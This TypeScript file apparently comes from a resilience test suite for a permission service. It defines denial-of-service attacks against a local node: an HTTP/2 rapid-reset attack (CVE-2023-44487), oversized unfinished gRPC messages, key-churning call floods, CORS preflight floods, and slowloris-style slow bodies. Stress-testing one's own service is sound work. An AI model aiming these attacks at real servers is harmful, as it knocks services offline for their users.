import { Agent, request } from 'node:http'
import { type ClientHttp2Session, connect, constants } from 'node:http2'
import { connect as connectSocket, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { countOutcome } from '../faults/traffic.ts'
import { uint32 } from '../http2-frames.ts'
import { type Attack, type AttackContext, countCall, repeatInParallel } from './attack.ts'

const mebibyte = 1024 * 1024
const checkPath = '/daikon.v1.PermissionService/Check'

/**
 * Attacks on the memory that a node uses for connections and messages, most of them without
 * credentials.
 */
export const connectionAttacks: Record<string, Attack> = {
  unfinished: {
    title: '100 unfinished `Check` of 6 MiB on one connection, without credentials',
    run: (context) => sendUnfinished(context, 1, 100, 6 * mebibyte),
  },
  'unfinished accepted': {
    title: '100 unfinished `Check` of 4 MiB on one connection, without credentials',
    run: (context) => sendUnfinished(context, 1, 100, 4 * mebibyte - 100),
  },
  'unfinished connections': {
    title: 'The same on 100 connections',
    run: (context) => sendUnfinished(context, 100, 1, 4 * mebibyte - 100),
  },
  resets: {
    title: 'Streams that are reset immediately on one connection, without credentials',
    run: resetStreams,
  },
  keys: {
    title: '5,349 calls with one token of 16 kB and changing service keys',
    run: changeKeys,
  },
  origins: {
    title: 'CORS preflight requests of refused origins on 64 connections',
    run: sendOrigins,
  },
  bodies: {
    title: '500 slow REST bodies of 1 MB',
    run: (context) => sendSlowBodies(context, 500),
  },
}

async function sendUnfinished(
  context: AttackContext,
  connections: number,
  streams: number,
  announced: number,
): Promise<void> {
  const bytes = Buffer.concat([Buffer.from([0]), uint32(announced), Buffer.alloc(announced - 1)])
  const sessions = Array.from({ length: connections }, () => openSession(context))
  for (const session of sessions) {
    for (let index = 0; index < streams; index += 1) {
      const stream = openStream(session)
      stream.on('response', (headers) =>
        countOutcome(context.outcomes, `status ${headers['grpc-status']}`),
      )
      stream.write(bytes)
    }
  }
  countOutcome(context.outcomes, 'sent', connections * streams)
  while (!context.isOver()) await sleep(50)
  for (const session of sessions) session.destroy()
}

/** Performs a rapid reset attack (CVE-2023-44487). */
async function resetStreams(context: AttackContext): Promise<void> {
  while (!context.isOver()) {
    const session = openSession(context)
    while (!context.isOver() && !session.destroyed) {
      for (let index = 0; index < 100; index += 1) {
        openStream(session).close(constants.NGHTTP2_CANCEL)
        countOutcome(context.outcomes, 'reset')
      }
      await sleep(1)
    }
    session.destroy()
  }
}

function openSession({ target, outcomes }: AttackContext): ClientHttp2Session {
  const session = connect(`http://127.0.0.1:${target.grpcPort}`, { maxSessionMemory: 10_000 })
  session.on('error', () => countOutcome(outcomes, 'connection closed'))
  return session
}

function openStream(session: ClientHttp2Session) {
  const headers = { ':method': 'POST', ':path': checkPath, 'content-type': 'application/grpc' }
  const stream = session.request({ ...headers, te: 'trailers' })
  stream.on('error', () => {})
  stream.resume()
  return stream
}

async function changeKeys({ target, grpc, outcomes }: AttackContext): Promise<void> {
  const calls = 5349
  let sent = 0
  const loop = async () => {
    while (sent < calls) {
      const key = `dk_${sent}`.padEnd(40, 'x')
      sent += 1
      const checks = [{ ...target.kind, resource_id: target.resource.resource_id, action: 'view' }]
      await countCall(outcomes, grpc.call('Check', { checks }, { token: target.largeToken, key }))
    }
  }
  await Promise.all(Array.from({ length: 64 }, loop))
}

async function sendOrigins(context: AttackContext): Promise<void> {
  const agent = new Agent({ keepAlive: true, maxSockets: 64 })
  await repeatInParallel(context, 64, async (index) => {
    const headers = {
      origin: `https://app-${index}.example`,
      'access-control-request-method': 'POST',
    }
    countOutcome(context.outcomes, `${await sendOptions(context.target.httpPort, agent, headers)}`)
  })
  agent.destroy()
}

function sendOptions(port: number, agent: Agent, headers: Record<string, string>) {
  return new Promise<number | 'cut'>((resolve) => {
    const options = { host: '127.0.0.1', port, agent, method: 'OPTIONS', path: '/auth/token' }
    const sent = request({ ...options, headers }, (response) => {
      response.resume()
      response.on('end', () => resolve(response.statusCode ?? 0))
    })
    sent.on('error', () => resolve('cut'))
    sent.end()
  })
}

/** Sends all but the last bytes of each body immediately, and then one byte per second. */
async function sendSlowBodies(context: AttackContext, count: number): Promise<void> {
  const { httpPort, people, key } = context.target
  const body = Buffer.alloc(1_000_000, ' ')
  const head = [
    'POST /permissions/check HTTP/1.1',
    'Host: localhost',
    'Content-Type: application/json',
    `Authorization: Bearer ${people.viewer.token}`,
    `X-Service-Key: ${key}`,
    `Content-Length: ${body.length + 100}`,
  ].join('\r\n')
  const sockets = Array.from({ length: count }, (): Socket => {
    const socket = connectSocket(httpPort, '127.0.0.1')
    socket.on('error', () => {})
    socket.once('data', (response) => {
      countOutcome(context.outcomes, response.toString().slice(9, 12))
      socket.resume()
    })
    socket.write(`${head}\r\n\r\n`)
    socket.write(body)
    return socket
  })
  countOutcome(context.outcomes, 'sent', count)
  while (!context.isOver()) {
    await sleep(1000)
    for (const socket of sockets) if (socket.writable) socket.write(' ')
  }
  for (const socket of sockets) socket.destroy()
}
